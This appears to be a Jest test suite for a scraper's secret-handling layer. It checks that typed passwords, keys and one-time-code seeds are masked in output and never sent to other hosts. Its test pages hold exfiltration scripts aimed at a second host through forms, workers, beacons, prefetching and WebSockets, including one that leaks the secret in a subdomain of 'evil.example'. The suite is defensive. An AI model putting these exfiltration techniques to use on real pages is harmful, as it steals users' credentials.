import { afterAll, beforeAll, beforeEach, describe, expect, test } from "@jest/globals";
import type { Step } from "../../../functions/contract/steps/steps.ts";
import { CUT_AT } from "../../../functions/proposals/snapshot.ts";
import { EVIDENCE_CUT_AT, RunFailure } from "../../../functions/runs/failure.ts";
import type { Scrape } from "../../../functions/scraping/job.ts";
import type { CaptureRequest, PageCapture } from "../../../functions/scraping/page/pictures/capture.ts";
import { codeOf } from "../../../functions/secrets/one-time-code.ts";
import type { Secret, SecretReader } from "../../../functions/secrets/secret.ts";
import { withSecrets } from "../../../functions/secrets/with-secrets.ts";
import { type Site, sendHtml, startSite } from "../../site/site.ts";
import { type Engine, startEngine, type Told } from "../scraping/harness.ts";
import { channels } from "./channels.ts";

const PASSWORD = `correct "horse" & battery/1%`;
const KEY = "k3y with spaces+é";

let engine: Engine;
let site: Site;
/** A site that is nobody's. */
let other: Site;
let secrets: Map<string, Secret>;
/** Asks for a capture of the page that a run ends at. */
let capture: CaptureRequest | undefined;
/** The addresses that steps began at. */
let addresses: (string | null)[];
/** What the sites were sent by POST. */
let sent: string[];

beforeAll(async () => {
  site = await startSite();
  other = await startSite();
  engine = await startEngine([site.host, other.host], {
    wrap: (scrape) => {
      const read: SecretReader = async (account, names) => {
        expect(account).toBe("acme");
        return new Map([...secrets].filter(([name]) => names.includes(name)));
      };
      const withThem = withSecrets(scrape, read, "acme");
      const onStep = (_: number, url: string | null) => void addresses.push(url);
      return (job, context) => withThem(job, { ...context, onStep, ...(capture && { capture }) });
    },
  });
});
afterAll(async () => {
  await engine.close();
  await site.close();
  await other.close();
});
beforeEach(() => {
  sent = [];
  addresses = [];
  capture = undefined;
  site.requests.length = 0;
  other.requests.length = 0;
  secrets = new Map([
    ["password", { value: PASSWORD, hosts: [] }],
    ["key", { value: KEY, hosts: [] }],
  ]);
  for (const one of [site, other]) {
    one.setRoute(
      "/login",
      `<form method="post" action="/account"><input type="text" name="password"><button>Go</button></form>`,
    );
    one.setRoute("/account", async (request, response) => {
      const body = Buffer.concat(await Array.fromAsync(request as AsyncIterable<Buffer>)).toString();
      sent.push(body);
      const password = new URLSearchParams(body).get("password") ?? "";
      sendHtml(response, echo(password));
    });
  }
});

/** A page that shows what it was sent in every way that it can. */
function echo(text: string): string {
  const escaped = text.replaceAll("&", "&amp;").replaceAll('"', "&quot;").replaceAll("<", "&lt;");
  return `<title>${escaped}</title><ul>
    <li>plain: ${escaped}</li><li style="text-transform: uppercase">shouted: ${escaped}</li>
    <li>encoded: ${encodeURIComponent(text)}</li><li>base64: ${Buffer.from(text).toString("base64")}</li>
    <li>json: ${JSON.stringify(text).replaceAll("&", "&amp;")}</li>
    <li>input: <input value="${escaped}"></li><li><a href="/x?p=${encodeURIComponent(text)}">link</a></li></ul>`;
}

const list: Step = {
  type: "get_list",
  selector: "li",
  fields: [
    { name: "text" },
    { name: "html", attribute: "html" },
    { name: "input", selector: "input", attribute: "value" },
    { name: "href", selector: "a", attribute: "href" },
  ],
};
const login = (url: string, value = "{{secret:password}}"): Step[] => [
  { type: "visit", url },
  { type: "write_input", selector: "input", value },
  { type: "click", selector: "button" },
];

/** All that a run told, with its failure's causes. */
function allOf({ batches, failure }: Told): string {
  const texts = [JSON.stringify(batches)];
  for (let error: unknown = failure; error instanceof Error; error = error.cause)
    texts.push(error.message, error.stack ?? "", JSON.stringify({ ...error }));
  return texts.join("\n");
}

function expectNothingOf(told: Told, ...values: string[]) {
  const all = allOf(told);
  for (const value of values) {
    for (const form of [value, encodeURIComponent(value), Buffer.from(value).toString("base64")])
      expect(all.toLowerCase()).not.toContain(form.toLowerCase());
  }
}

/** Lets a site accept WebSockets; the data that comes by them, masked, follows their paths. */
function acceptSockets(at: Site): string[] {
  const got: string[] = [];
  at.onSocket((path, socket) => {
    got.push(path);
    socket.on("data", (chunk) => {
      const isData = ((chunk[0] ?? 0) & 0x0f) < 8;
      if (!isData) return;
      got.push(chunk.toString("latin1"));
      // The engine waits for an answer: the text "ok".
      socket.write(Buffer.from([0x81, 2, 0x6f, 0x6b]));
    });
  });
  return got;
}

test("a typed secret reaches the site as it is, and no row or look at the page in whatever way the page shows it", async () => {
  const looks: PageCapture[] = [];
  capture = { wantsScreenshot: true, onCapture: (seen) => void looks.push(seen) };
  const told = await engine.run({ steps: [...login(site.url("/login")), list] });
  expect(told.failure).toBeUndefined();
  expect(new URLSearchParams(sent[0]).get("password")).toBe(PASSWORD);
  expect(told.rows.map((row) => row.text)).toEqual([
    "plain: {{secret:password}}",
    "SHOUTED: {{secret:password}}",
    "encoded: {{secret:password}}",
    "base64: {{secret:password}}",
    expect.stringMatching(/^json: "\{\{secret:password\}\}"$/),
    "input:",
    "link",
  ]);
  expect(told.rows[5]?.input).toBe("{{secret:password}}");
  expect(told.rows[6]?.href).toBe(site.url("/x?p={{secret:password}}"));
  expectNothingOf(told, PASSWORD);
  expect(looks).toHaveLength(1);
  const text = JSON.stringify(looks[0]?.snapshot);
  expect(text).toContain("plain: {{secret:password}}");
  expect(text).not.toContain(JSON.stringify(PASSWORD).slice(1, -1));
  expect(text).not.toContain(encodeURIComponent(PASSWORD));
});

test("a one-time code is typed in place of its seed, which goes nowhere", async () => {
  const seed = "GEZDGNBVGY3TQOJQGEZDGNBVGY3TQOJQ";
  secrets.set("password", { value: seed, hosts: [] });
  const [visit] = login(site.url("/login"));
  const type = { type: "write_input", selector: "input", value: "{{totp:password}}", submit: true } as const;
  const before = codeOf("password", seed);
  const told = await engine.run({ steps: [visit as Step, type, list] });
  const code = new URLSearchParams(sent[0]).get("password");
  expect([before, codeOf("password", seed)]).toContain(code);
  expect(told.rows[0]?.text).toBe(`plain: ${code}`);
  expectNothingOf(told, seed);
});

describe("a look at the page", () => {
  const looks: PageCapture[] = [];
  beforeEach(() => {
    looks.length = 0;
    capture = { wantsScreenshot: true, onCapture: (seen) => void looks.push(seen) };
  });

  test("has no part of a secret where a text is cut, and a failure neither", async () => {
    const parts = (text: string, length: number) => `${"x".repeat(length - 10)}${text}`;
    const shown = [
      ...["title", "attribute"].map((of) => parts(encodeURIComponent(PASSWORD), CUT_AT.value) + of),
      parts(encodeURIComponent(PASSWORD), CUT_AT.text),
      parts(encodeURIComponent(PASSWORD), CUT_AT.address),
    ];
    const [title = "", attribute = "", text = "", address = ""] = shown;
    site.setRoute("/cut", `<title>${title}</title><input><a id="${attribute}" href="${address}">${text}</a>`);
    await engine.run({ steps: login(site.url("/cut")).slice(0, 2) });
    const seen = JSON.stringify(looks[0]?.snapshot);
    expect(seen).toContain("xxxxxxxxxx");
    expect(seen).not.toContain(encodeURIComponent(PASSWORD).slice(0, 4));
    const long = `${"x".repeat(EVIDENCE_CUT_AT - 6)}${PASSWORD}`;
    site.setRoute("/cut", `<title>${long.replaceAll("&", "&amp;")}</title><input>`);
    const end: Step = { type: "click", selector: "#none", timeout_ms: 0 };
    const { failure } = await engine.run({ steps: [...login(site.url("/cut")).slice(0, 2), end] });
    expect(failure?.evidence?.title).toMatch(/^x+$/);
  });

  test("that no secret was used on has a picture, and none is read for it", async () => {
    secrets = new Map();
    const { failure } = await engine.run({ steps: [{ type: "visit", url: site.url("/login") }] });
    expect(failure).toBeUndefined();
    expect(looks[0]?.screenshot?.subarray(0, 2)).toEqual(Buffer.from("ffd8", "hex"));
  });
});

test("a secret in addresses is percent-encoded, and fills the place that a run goes on from", async () => {
  for (const page of [1, 2, 3]) {
    site.setRoute(`/list/${page}`, (request, response) => {
      const key = new URL(request.url ?? "", site.origin).searchParams.get("key");
      sendHtml(
        response,
        key === KEY ? `<ul><li>${page}a</li><li>${page}b ${key}</li></ul>` : "refused",
        key === KEY ? 200 : 403,
      );
    });
  }
  const job = {
    steps: [{ type: "visit", url: `${site.url("/list/1")}?key={{secret:key}}` } as Step, list],
    pagination: {
      type: "url_template",
      url: `${site.url("/list/{page}")}?key={{secret:key}}`,
      max_pages: 3,
    } as const,
  };
  const whole = await engine.run(job);
  expect(whole.failure).toBeUndefined();
  expect(whole.rows.map((row) => row.text)).toEqual(
    [1, 2, 3].flatMap((page) => [`${page}a`, `${page}b {{secret:key}}`]),
  );
  expectNothingOf(whole, KEY);
  // Where the steps began.
  expect(addresses).toEqual([null, `${site.url("/list/1")}?key={{secret:key}}`]);
  expect(whole.batches[1]?.checkpoint.url).toBe(`${site.url("/list/2")}?key={{secret:key}}`);

  const [, second] = whole.batches;
  const rest = await engine.run({ ...job, from: { checkpoint: second?.checkpoint ?? {}, rowCount: 4 } });
  expect(rest.failure).toBeUndefined();
  expect(rest.rows).toEqual(whole.rows.slice(4));
});

test("what a page writes into its own address is never taken for a reference", async () => {
  const items = "<ul><li>1</li><li>2</li></ul>";
  site.setRoute("/start", `${items}<a class="next" href="/trap?a={{secret:key}}">Next</a>`);
  site.setRoute("/trap", `<ul><li>3</li></ul><a class="next" href="/last">Next</a>`);
  site.setRoute("/last", "<ul><li>4</li></ul>");
  const job = {
    steps: [{ type: "visit", url: `${site.url("/start")}?key={{secret:key}}` } as Step, list],
    pagination: { type: "next_button", selector: ".next" } as const,
  };
  const told = await engine.run(job);
  expect(told.failure).toBeUndefined();
  const trapped = told.batches[1];
  expect(trapped?.checkpoint.url).toContain("/trap");
  site.requests.length = 0;
  const rest = await engine.run({ ...job, from: { checkpoint: trapped?.checkpoint ?? {}, rowCount: 3 } });
  expect(rest.rows.map((row) => row.text)).toEqual(["4"]);
  // The steps before the list are performed again.
  const [first, ...followed] = site.requests.filter((path) => path !== "/robots.txt");
  expect(first).toContain("/start");
  expect(followed.join()).toContain("/trap");
  expect(decodeURIComponent(followed.join())).not.toContain(KEY);
});

describe("a run fails before it loads a page", () => {
  test("when the account has no such secret", async () => {
    const told = await engine.run({ steps: login(site.url("/login"), "{{secret:missing}}") });
    expect(told.failure).toMatchObject({ code: "secret_unavailable", step: 1 });
    expect(told.failure?.message).toContain(
      'no secret "missing". Ask the operator of the service to set it, on AWS with `--stack`: `npx gleaner secret set missing --account acme`.',
    );
    expect(told.loads).toBe(0);
    expect(site.requests).toEqual([]);
  });
});

describe("a secret goes to no other host", () => {
  const expectRefused = (told: Told, name: string, host: string) => {
    expect(told.failure).toMatchObject({ code: "secret_unavailable", step: expect.any(Number) });
    expect(told.failure?.message).toContain(`The secret "${name}" was not sent to ${host}`);
    expect(sent).toEqual([]);
  };

  test("than its own in an address", async () => {
    secrets.set("key", { value: KEY, hosts: [site.host] });
    const told = await engine.run({
      steps: [{ type: "visit", url: `${other.url("/login")}?k={{secret:key}}` }],
    });
    expectRefused(told, "key", other.host);
    expect(other.requests).toEqual([]);
  });

  test("than its own when the page was redirected", async () => {
    secrets.set("password", { value: PASSWORD, hosts: [site.host] });
    site.setRedirect("/moved", other.url("/login"));
    expectRefused(await engine.run({ steps: login(site.url("/moved")) }), "password", other.host);
  });

  test("than those that the scraper visits, when it names none", async () => {
    site.setRedirect("/moved", other.url("/login"));
    expectRefused(await engine.run({ steps: login(site.url("/moved")) }), "password", other.host);
    const both = [{ type: "visit", url: other.url("/login") } as Step, ...login(site.url("/moved"))];
    expect((await engine.run({ steps: both })).failure).toBeUndefined();
    expect(sent).toHaveLength(1);
  });

  test("into a frame of another host", async () => {
    site.setRoute("/framed", `<iframe src="${other.url("/login")}"></iframe>`);
    const steps: Step[] = [
      { type: "visit", url: site.url("/framed") },
      { type: "write_input", frame: "iframe", selector: "input", value: "{{secret:password}}" },
    ];
    expectRefused(await engine.run({ steps }), "password", other.host);
  });

  test("into a page that came while the secret was about to be typed", async () => {
    // Not to be typed into until the page leaves for the other site.
    site.setRoute(
      "/late",
      `<input disabled><script>setTimeout(() => { location = ${JSON.stringify(other.url("/login"))}; }, 700)</script>`,
    );
    const told = await engine.run({
      steps: [
        { type: "visit", url: site.url("/late") },
        { type: "write_input", selector: "input", value: "{{secret:password}}" },
      ],
    });
    expectRefused(told, "password", other.host);
  });
});

describe("what the browser is about to send to another host", () => {
  const received = () => [...sent, ...other.requests].join();
  /** Types the secret into a page of the site, presses its button, and waits for what that leads to. */
  const runOn = (html: string, ...more: Step[]) => {
    site.setRoute("/page", html);
    return engine.run({ steps: [...login(site.url("/page")), ...more] });
  };
  const ending: Step = { type: "wait", selector: "#never", timeout_ms: 20_000 };
  const done: Step = { type: "wait", text: "done", timeout_ms: 20_000 };
  const input = '<input name="password">';
  const onClick = (script: string) =>
    `${input}<script>const end = () => document.body.append("done")</script><button onclick='${script}'>Go</button><ul><li>One</li></ul>`;
  const way = (name: keyof typeof channels, path: string) =>
    channels[name](other.url(path), `document.querySelector("input").value`);
  beforeEach(() => {
    other.setRoute("/log", (_, response) => sendHtml(response, "logged"));
    site.setRoute("/moved", (_, response) => {
      response.writeHead(307, { location: other.url("/account") }).end();
    });
  });

  test.each<[string, () => string]>([
    [
      "by a form",
      () => `<form method=post action="${other.url("/account")}">${input}<button>Go</button></form>`,
    ],
    [
      "by a form in a new window",
      () =>
        `<form method=post target=_blank action="${other.url("/account")}">${input}<button>Go</button></form>`,
    ],
    ["by a redirect", () => `<form method=post action="/moved">${input}<button>Go</button></form>`],
    ...(
      [
        ["a script in base 64", "/log"],
        ["a script in a file", "/account"],
        ["a worker", "/log"],
      ] as const
    ).map(([name, path]): [string, () => string] => [`by ${name}`, () => onClick(way(name, path))]),
  ])("%s is not sent, and ends the run", async (_, html) => {
    const told = await runOn(html(), ending);
    expect(told.failure).toMatchObject({ code: "secret_unavailable" });
    expect(told.failure?.message).toContain(`The secret "password" was not sent to ${other.host}`);
    expect(received()).toBe("");
    expectNothingOf(told, PASSWORD);
  });

  test("by a beacon is not sent, and the run goes on, because no page can see the response", async () => {
    const told = await runOn(onClick(way("a beacon", "/account")), done, list);
    expect(told.failure).toBeUndefined();
    expect(told.rows).toHaveLength(1);
    expect(received()).toBe("");
  });

  const names = ["prefetching by speculation rules", "prerendering", "FedCM"] as const;
  const unseen = () => names.map((name) => `{ ${way(name, "/log")} }`).join("\n");
  const tried: Step[] = [
    { ...done, text: "done".repeat(names.length) },
    { type: "wait", value: 1_000 },
    list,
  ];

  test("by prefetching, prerendering or FedCM is not sent", async () => {
    const told = await runOn(onClick(unseen()), ...tried);
    expect(told.failure).toBeUndefined();
    expect(told.rows).toHaveLength(1);
    expect(received()).toBe("");
    expectNothingOf(told, PASSWORD);
  });

  test("by these ways is not sent to a host that a request without the secret has named", async () => {
    const named = `fetch("${other.url("/log")}", { mode: "no-cors" }).then(() => { ${unseen()} })`;
    const told = await runOn(onClick(named), ...tried);
    expect(told.failure).toBeUndefined();
    expect(received()).toBe("/log");
  });

  test("by the name of a host that only the browser's resolver would get, ends the run", async () => {
    secrets.set("password", { value: "hunter-2-hunter", hosts: [] });
    const socket = `new WebSocket("wss://" + document.querySelector("input").value + ".evil.example/")`;
    const told = await runOn(onClick(socket), ending);
    expect(told.failure).toMatchObject({ code: "secret_unavailable" });
    expect(told.failure?.message).toContain("was not sent to {{secret:password}}.evil.example");
  });

  const open = (path: string, then: string) =>
    `const socket = new WebSocket("ws://${other.host}${path}"); ${then}`;
  const texts: Step = { type: "get_list", selector: "li", fields: [{ name: "text" }] };
  /** A page that holds a WebSocket, which its button makes use of. */
  const socketPage = (before: string, onPress: string) =>
    `${input}<button>Go</button><ul><li>One</li></ul><script>
      const value = () => document.querySelector("input").value; const end = () => document.body.append("done");
      ${before}
      document.querySelector("button").onclick = () => { ${onPress} };
    </script>`;

  test("by a WebSocket that was open before, ends the run and is not sent", async () => {
    const sockets = acceptSockets(other);
    site.setRoute("/page", socketPage(open("/log", "socket.onopen = end;"), "socket.send(value())"));
    const [visit, ...rest] = login(site.url("/page"));
    const told = await engine.run({ steps: [visit as Step, done, ...rest, ending] });
    expect(told.failure).toMatchObject({ code: "secret_unavailable" });
    expect(told.failure?.message).toContain(`The secret "password" was not sent to ${other.host}`);
    expect(sockets).toEqual(["/log"]);
    expectNothingOf(told, PASSWORD);
  });

  test("by a new WebSocket is not sent, and the run warns of it", async () => {
    const sockets = acceptSockets(other);
    const page = socketPage("", open("/log?", "socket.onerror = end;").replace('/log?"', '/log?" + value()'));
    const told = await runOn(page, done, texts);
    expect(told.failure).toBeUndefined();
    expect(told.rows).toEqual([{ text: "One" }]);
    expect(told.warnings).toMatchObject([{ code: "websocket_closed", step: null }]);
    expect(told.warnings[0]?.message).toContain(`A WebSocket to ${other.host} was closed`);
    expect(sockets).toEqual([]);
    expectNothingOf(told, PASSWORD);
  });

  test("by a WebSocket to the secret's own host is sent", async () => {
    const sockets = acceptSockets(site);
    const script = open("/live", "socket.onopen = () => { socket.send(value()); end(); };");
    const told = await runOn(socketPage("", script.replace(other.host, site.host)), done, texts);
    expect(told).toMatchObject({ failure: undefined, warnings: [] });
    expect(sockets[0]).toBe("/live");
    expect(sockets).toHaveLength(2);
  });

  test("has no secret in it: it is sent", async () => {
    const fetches = `fetch("${other.url("/account")}", { method: "POST", body: "password=nothing", mode: "no-cors" }).then(() => document.body.append("done"))`;
    expect((await runOn(onClick(fetches), done)).failure).toBeUndefined();
    expect(sent).toEqual(["password=nothing"]);
  });

  test("has the secret in it, which is for that host too: it is sent", async () => {
    secrets.set("password", { value: PASSWORD, hosts: [site.host, other.host] });
    const told = await runOn(
      `<form method=post action="${other.url("/account")}">${input}<button>Go</button></form>`,
    );
    expect(told.failure).toBeUndefined();
    expect(new URLSearchParams(sent[0]).get("password")).toBe(PASSWORD);
  });
});

describe("a failure", () => {
  test("says nothing of the secret in its message, its causes or what the page looked like", async () => {
    const told = await engine.run({
      steps: [
        ...login(site.url("/login")),
        { type: "click", field_name: "plain", timeout_ms: 1_500 },
        { type: "click", selector: "#none", timeout_ms: 1_500 },
      ],
    });
    expect(told.failure).toMatchObject({ code: "element_not_found", step: 4 });
    expect(told.failure?.evidence).toMatchObject({ title: "{{secret:password}}", url: site.url("/account") });
    expect(told.failure?.evidence?.screenshot).toBeUndefined();
    expectNothingOf(told, PASSWORD);
  });

  test("of an input that can't be filled in does not carry the browser's log of what was typed", async () => {
    site.setRoute("/fixed", `<input readonly>`);
    const told = await engine.run({
      steps: [
        { type: "visit", url: site.url("/fixed") },
        { type: "write_input", selector: "input", value: "{{secret:password}}", timeout_ms: 2_000 },
      ],
    });
    expect(told.failure).toMatchObject({ code: "element_unusable", step: 1 });
    expectNothingOf(told, PASSWORD);
  });

  test("of a page that never saw a secret is pictured", async () => {
    const told = await engine.run({
      steps: [
        { type: "visit", url: site.url("/login") },
        { type: "click", selector: "#none", timeout_ms: 1_500 },
        ...login(site.url("/login")),
      ],
    });
    expect(told.failure).toMatchObject({ code: "element_not_found", step: 1 });
    expect(told.failure?.evidence?.screenshot?.length).toBeGreaterThan(0);
  });

  test("of an address with a secret does not name it", async () => {
    const told = await engine.run({
      steps: [{ type: "visit", url: `${site.url("/none")}?k={{secret:key}}` }],
    });
    expect(told.failure?.message).toContain(`${site.url("/none")}?k={{secret:key}} answered with HTTP 404`);
    expectNothingOf(told, KEY);
  });
});

test("a failure that a run would end with later says nothing either", async () => {
  const later: Scrape = async function* () {
    yield { rows: [], checkpoint: {} };
    return {
      notBefore: 1,
      failure: new RunFailure("host_busy", `not ${PASSWORD}`, { cause: new Error(PASSWORD) }),
    };
  };
  const job = { steps: login(site.url("/login")), pagination: { type: "none" }, rowsLimit: 1 } as const;
  const context = { upstream: undefined, deadline: 0, onPageLoad: () => {} };
  const batches = withSecrets(later, async () => secrets, "acme")(job, context);
  await batches.next();
  const outcome = await batches.next();
  const { failure } = outcome.value as { failure: RunFailure };
  expect(failure.message).toBe("not {{secret:password}}");
  expect((failure.cause as Error).message).toBe("{{secret:password}}");
});
